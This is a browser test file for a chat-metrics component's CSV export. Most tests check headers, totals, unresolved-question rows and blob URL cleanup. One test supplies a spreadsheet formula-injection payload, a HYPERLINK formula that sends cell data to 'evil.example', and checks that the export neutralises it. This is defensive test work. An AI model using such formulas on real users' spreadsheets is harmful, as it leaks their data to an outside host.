import { expect } from '@open-wc/testing';
import { toDateInput } from '../../element/src/metrics/date-range.js';
import { figures, part, showing } from './metrics-helpers.js';

async function csvOf(el: Parameters<typeof part>[0]): Promise<{ name: string; lines: string[]; raw: string }> {
  const link = part(el, 'csv-link')[0] as HTMLAnchorElement;
  expect(link.href).to.match(/^blob:/);
  const bytes = new Uint8Array(await (await fetch(link.href)).arrayBuffer());
  // A byte-order mark first, so spreadsheet programs read UTF-8 (TextDecoder drops it again).
  expect([...bytes.slice(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
  const raw = new TextDecoder().decode(bytes);
  return { name: link.download, lines: raw.split('\r\n'), raw };
}

describe('<sitegpt-chat-metrics> CSV for the weekly review', () => {
  it('holds the days, the totals and the unresolved questions of the figures shown', async () => {
    const shown = figures(7);
    const el = await showing(shown);
    const { name, lines } = await csvOf(el);
    expect(name).to.equal(`chat-metrics_${toDateInput(shown.from)}_${toDateInput(shown.to - 1)}.csv`);
    expect(lines[0]).to.equal('"day","questions","member_days","solved_member_days","solved_rate","repeat_rate","latency_p50_ms","latency_p95_ms","tokens"');
    expect(lines[1]).to.equal(`"${toDateInput(shown.from)}",30,20,13,0.65,0.05,2000,7000,0`);
    expect(lines[7]).to.equal(`"${toDateInput(shown.days[6]!.start)}",36,20,13,0.65,0.05,2120,7300,0`);
    expect(lines[8]).to.equal('"all",1000,640,412,0.6438,0.052,2400,7900,0');
    expect(lines).to.include('"fallback_rate",0.041');
    expect(lines).to.include('"low_confidence_rate",0.123');
    expect(lines).to.include('"handoffs",14');
    expect(lines).to.include('"error_UPSTREAM_UNAVAILABLE",15');
    const unresolved = lines.indexOf('"unresolved_question","times_asked","members","last_asked"');
    expect(lines.slice(unresolved + 1, unresolved + 3)).to.deep.equal([
      `"Where is my order?",12,9,"${toDateInput(shown.unresolved[0]!.lastAskedAt)}"`,
      `"Do you ship to Iceland?",5,5,"${toDateInput(shown.unresolved[1]!.lastAskedAt)}"`,
    ]);
    expect(lines.at(-1)).to.equal('');
  });

  it('quotes member text and defuses cells a spreadsheet would run as a formula', async () => {
    const at = Date.now();
    const el = await showing(
      figures(7, {
        unresolved: [
          { question: '=HYPERLINK("https://evil.example/?"&A1,"click")', count: 3, members: 2, lastAskedAt: at },
          { question: '+1 more, "quoted"\nnew line', count: 2, members: 1, lastAskedAt: at },
          { question: '@SUM(A1:A9)', count: 1, members: 1, lastAskedAt: at },
        ],
      }),
    );
    const { raw } = await csvOf(el);
    expect(raw).to.contain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",3,2,`);
    expect(raw).to.contain(`"'+1 more, ""quoted""\nnew line",2,1,`);
    expect(raw).to.contain(`"'@SUM(A1:A9)",1,1,`);
  });

  it('makes a new file for new figures and lets the old one go', async () => {
    const el = await showing(figures(7));
    const first = (part(el, 'csv-link')[0] as HTMLAnchorElement).href;
    el.setAttribute('metrics', JSON.stringify(figures(7, { questions: 1234 })));
    await el.updateComplete;
    const second = await csvOf(el);
    expect((part(el, 'csv-link')[0] as HTMLAnchorElement).href).not.to.equal(first);
    expect(second.lines[8]).to.match(/^"all",1234,/);
    const old = await fetch(first).then(
      () => 'still there',
      () => 'revoked',
    );
    expect(old).to.equal('revoked');
  });
});
